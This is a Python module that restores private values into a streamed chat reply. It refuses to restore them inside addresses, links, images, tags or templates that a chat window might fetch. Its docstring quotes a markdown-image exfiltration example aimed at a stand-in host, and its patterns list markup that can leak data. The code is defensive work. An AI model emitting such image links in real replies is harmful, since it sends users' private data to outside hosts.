"""Putting private values back into a reply that may come in pieces, on the owner's side only.

The way back of a private map: a surrogate that stands alone, whatever its case, becomes the value it was drawn for.
What might still become a surrogate is held back until the next piece; nothing else waits.

The vendor writes the reply, and a chat window fetches pictures: `![](https://elsewhere.example/?ID-00017)` would send
a private value to whoever wrote it. What an address is, differs from window to window; so a surrogate is restored only
where no window can take it for a part of one: between white space (of ASCII, the only one that ends an address), but
for quotes, brackets and emphasis before it and punctuation after it; and not in what `_Surroundings` leaves alone.
"""

from __future__ import annotations

import re
from collections.abc import Mapping

__all__ = ["Restorer"]

_SPACE = frozenset(" \t\n\r\f\v")
_OPENING = frozenset("\"'“‘«„(*_`~")
_CLOSING = frozenset(".,;:!?)\"'”’»*_`~…")
_LONGEST = 3  # characters of an opener
_OPENER = re.compile(
    r"""(?: <[^\W\d_] | <[/!?] | ![^\s!?)"'*_] | \[[^\s\d"\]^{] | \][(:] | \\[^\W\d_]
    | `{3} | ~{3} | :: | (?<!\S)@ | \{[{%] )\Z""",
    re.X,
)
_ADDRESS = re.compile(r"""(?: < | [/\\]{2} | [^\W\d_]:(?:[^\W_]|[/\\]) )\Z""", re.X)


class Restorer:
    """Restores one reply.

    Args:
        originals: Surrogate, in lower case, to private value.

    Example:
        >>> restorer = Restorer({"id-00017": "B-4711"})
        >>> restorer.feed("See ID-000"), restorer.feed("17, not ID-000170."), restorer.close()
        ('See ', 'B-4711, not ID-000170.', '')
    """

    def __init__(self, originals: Mapping[str, str]) -> None:
        self._originals = dict(originals)
        self._beginnings = {surrogate[:n] for surrogate in originals for n in range(1, len(surrogate) + 1)}
        self._held = ""
        self._around = _Surroundings()

    def feed(self, piece: str) -> str:
        """Return what can be said for sure once this piece is there."""
        return self._advance(self._held + piece, last=False)

    def close(self) -> str:
        """Return the rest: the reply has ended."""
        return self._advance(self._held, last=True)

    def _advance(self, text: str, *, last: bool) -> str:
        said, place = list[str](), 0
        while place < len(text):
            end = self._end(text, place, last=last)
            if end is None:
                break
            if end > place:
                said.append(self._originals[text[place:end].lower()])
                self._around.pass_surrogate()
                place = end
            else:
                said.append(text[place])
                self._around.pass_character(text[place])
                place += 1
        self._held = text[place:]
        return "".join(said)

    def _end(self, text: str, start: int, *, last: bool) -> int | None:
        """Return where the longest surrogate ends that stands here, its start if none does, None if that is open."""
        if not self._around.open:
            return start
        end = start
        while end < len(text) and text[start : end + 1].lower() in self._beginnings:
            end += 1
        if end == len(text) and not last:
            return None
        for longest in range(end, start, -1):
            if text[start:longest].lower() in self._originals:
                stands = _ends_well(text, longest, quoted=self._around.quoted, last=last)
                if stands is not False:
                    return longest if stands else None
        return start


class _Surroundings:
    r"""What has come before a place in a reply, as far as it may be an address or a drawing that fetches one.

    Windows differ in where such a thing ends, so nothing is taken for an end but that of a line:

        <, //, \\, a:b                 to the end of the line: an address in it may hold spaces
        <name, </, <!, <?              what may be a tag, whose attributes may hold anything
        !x, [name, [[, ](, ]:          a picture, a tag in brackets, a link, or the address that one elsewhere refers to
        \name, &name;                  formulas have links and pictures, and names that are defined anew
        ``` or ~~~ or ::, @ of a word  a block, which windows draw diagrams from, or a directive
        {{, {%                         what templates and wikis take for a picture
        {                              attributes of Markdown's: from here on only what stands alone in double quotes,
                                       as values of JSON do, and after a = nothing
    """

    def __init__(self) -> None:
        self._plain = True  # since white space, nothing has come but what may stand before a surrogate
        self._line = self._shut = self._entity = False
        self.quoted = False  # a surrogate must stand alone in double quotes
        self._tail = ""  # the last characters

    @property
    def open(self) -> bool:
        """Whether a surrogate that stands here may be restored."""
        return self._plain and not (self._shut or self._line or (self.quoted and not self._tail.endswith('"')))

    def pass_surrogate(self) -> None:
        """Go past a surrogate that was restored."""
        self._plain, self._entity, self._tail = False, False, ""

    def pass_character(self, character: str) -> None:
        """Go past a character that stays."""
        self._tail = (self._tail + character)[-_LONGEST:]
        named = (self._entity and character == ";") or (self.quoted and character == "=")
        self._shut = self._shut or named or _OPENER.search(self._tail) is not None
        self._line = character != "\n" and (self._line or _ADDRESS.search(self._tail) is not None)
        self._entity = character == "&" or (self._entity and (character.isalnum() or character == "#"))
        self.quoted = self.quoted or character == "{"
        self._plain = character in _SPACE or (self._plain and character in _OPENING)


def _ends_well(text: str, end: int, *, quoted: bool, last: bool) -> bool | None:
    """Whether only punctuation, or a genitive s, stands between a surrogate's end and white space; None if unknown."""
    if quoted and text[end : end + 1] != '"':
        return None if end == len(text) and not last else False
    if text[end : end + 2].lower() in ("'s", "’s"):
        end += 2
    while end < len(text) and text[end] in _CLOSING:
        end += 1
    if end == len(text):
        return True if last else None
    return text[end] in _SPACE
